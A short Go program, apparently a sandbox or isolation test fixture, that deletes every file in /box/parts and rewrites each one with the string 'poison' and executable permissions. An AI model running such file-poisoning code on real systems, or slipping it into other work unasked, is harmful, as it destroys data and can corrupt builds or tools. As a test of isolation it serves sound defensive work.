package main

import (
	"fmt"
	"os"
)

func main() {
	fmt.Println("tried", len(os.Args))
	entries, _ := os.ReadDir("/box/parts")
	for _, entry := range entries {
		os.Remove("/box/parts/" + entry.Name())
		fmt.Println(os.WriteFile("/box/parts/"+entry.Name(), []byte("poison"), 0o755))
	}
}
